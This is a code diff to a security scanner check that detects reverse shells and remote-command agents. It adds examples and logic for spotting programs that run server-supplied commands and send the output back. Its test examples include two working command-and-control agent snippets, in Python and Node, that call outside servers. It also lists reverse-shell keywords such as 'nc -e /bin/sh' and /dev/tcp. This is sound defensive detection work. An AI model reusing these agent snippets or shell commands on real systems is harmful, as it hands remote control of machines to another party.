@@ -1,4 +1,9 @@
 import type { FileCheck } from '../../check.ts';
+import type { Act } from '../../facts/acts/act.ts';
+import { isSentBack } from '../../facts/acts/sent-back.ts';
+import type { Flow } from '../../facts/flow/flow-facts.ts';
+import { COMMAND_SINKS } from '../../knowledge/sinks/command.ts';
+import { traceOf } from '../../knowledge/source-trust.ts';
 
 /** Each form hands a shell to whoever is at the other end of a socket. */
 const FORMS: readonly RegExp[] = [
@@ -36,6 +41,7 @@ export const check: FileCheck = {
     keywords: ['/dev/tcp/', '/dev/udp/', '.dup2('],
     words: ['nc ', 'ncat ', 'netcat ', 'mkfifo ', 'socat '],
     acts: ['remote-control'],
+    sinks: COMMAND_SINKS,
   },
   examples: {
     bad: [
@@ -57,6 +63,31 @@ export const check: FileCheck = {
           output = «subprocess.check_output(command, shell=True)»
           «sock.send(output)»`,
       },
+      {
+        'agent.py': `
+          import subprocess, time, requests
+          SERVER = 'http://203.0.113.7:8080'
+
+          def tell(text):
+              requests.post(SERVER, data=text)
+
+          def obey(command):
+              done = subprocess.Popen(«command», stdout=subprocess.PIPE, shell=True)
+              tell(done.stdout.read())
+
+          while True:
+              obey(requests.get(SERVER).text)
+              time.sleep(5)`,
+      },
+      {
+        'agent.js': `
+          const { exec } = require('child_process');
+          const WebSocket = require('ws');
+          const ws = new WebSocket('wss://c.acme.net');
+          ws.on('message', (message) => {
+            exec(«message», (error, out) => ws.send(out));
+          });`,
+      },
     ],
     good: [
       { 'filter.yaml': 'words:\n  - keyword: "nc -e /bin/sh"\n    severity: high\n' },
@@ -65,11 +96,41 @@ export const check: FileCheck = {
       { 'wait.sh': 'timeout 1 bash -c "exec 3<>/dev/tcp/127.0.0.1/$port" && echo open' },
       { 'detach.py': 'os.dup2(log.fileno(), 1)\nos.dup2(log.fileno(), 2)\n' },
       { 'daemon.py': 'os.dup2(devnull.fileno(), sys.stdout.fileno())' },
+      {
+        'update.py': `
+          import subprocess, requests
+          version = requests.get('https://releases.acme.io/latest').text
+          done = subprocess.run(f'pip install acme=={version}', shell=True, capture_output=True)
+          print(done.stdout)`,
+      },
+      {
+        'report.py': `
+          import subprocess, requests
+          names = requests.get('https://api.acme.io/packages').json()
+          out = subprocess.check_output('pip show ' + names[0], shell=True)
+          requests.post('https://api.acme.io/report', data=out)`,
+      },
     ],
   },
 
-  *find({ windows, acts, span, language }) {
+  *find({ windows, acts, span, language, flows, text, path }) {
     for (const { start, end, message, confidence } of acts) yield { at: span(start, end), message, confidence };
+    for (const flow of flows) {
+      if (
+        flow.sink.file !== path ||
+        isTold(acts, flow) ||
+        !obeysServer(flow, text) ||
+        !isSentBack(text, language, flow.call.start)
+      )
+        continue;
+      yield {
+        at: flow.sink,
+        message: 'The command comes from a server, and what it writes is sent back: somebody else types here.',
+        trace: traceOf(flow),
+        // Who runs an agent of their own tells it where their server is.
+        confidence: isFixedServer(text) ? 'high' : 'medium',
+      };
+    }
     for (const window of windows) {
       for (const form of FORMS) {
         for (const match of window.text.matchAll(form)) {
@@ -89,6 +150,32 @@ export const check: FileCheck = {
     }
   },
 };
+
+/** An act says the same of this call already. */
+function isTold(acts: readonly Act[], { call }: Flow): boolean {
+  return acts.some(({ start, end }) => start < call.end && call.start < end);
+}
+
+/** The whole command is the answer of a server, or a message on a connection that this program opened. */
+function obeysServer({ source, isWhole, sink }: Flow, text: string): boolean {
+  const isWholeCommand = isWhole === true || HANDS_TO_SHELL.test(text.slice(Math.max(0, sink.start - 80), sink.end));
+  if (!isWholeCommand) return false;
+  if (source.kind === 'response') return source.what.includes('answer');
+  return source.kind === 'remote' && CONNECTS.test(text) && !LISTENS.test(text);
+}
+const HANDS_TO_SHELL =
+  /\b(?:cmd(?:\.exe)?["']?,?\s{0,3}["']?\/c\b|(?:powershell|pwsh|(?:ba|z)?sh)(?:\.exe)?["']?,?\s{0,3}["']?-c\b)/i;
+const CONNECTS =
+  /\.connect\(\s{0,3}\(|\bcreate_connection\(|\bnet\.(?:connect|createConnection)\(|\btls\.connect\(|\bnew\s{1,2}(?:WebSocket|net\.Socket|Socket)\(|\bwebsockets?\.connect\(|\bio(?:\.connect)?\(\s{0,3}["'`]/;
+const LISTENS = /\.listen\(|\.bind\(\s{0,3}\(|\bWebSocketServer\b|\bcreate_server\(|\bcreateServer\(/;
+
+/** The address is written down, and nobody is asked for another one. */
+function isFixedServer(text: string): boolean {
+  return text.split('\n').some((line) => ADDRESS.test(line) && !ASKED_FOR.test(line));
+}
+const ADDRESS =
+  /["'`](?:(?:https?|wss?|tcp):\/\/[\w{}$.-]{4,}|\d{1,3}(?:\.\d{1,3}){3}["'`])|\.connect\(\s{0,3}\(?\s{0,3}["'][\w.-]{4,100}["']/;
+const ASKED_FOR = /environ|getenv|process\.env|argv|argparse|add_argument|\.option\(|config|default|input\(/i;
 
 const DATA: ReadonlySet<string> = new Set(['yaml', 'json', 'toml']);
 /** `keyword: "nc -e /bin/sh"`: what a filter looks for, in words of its own. */
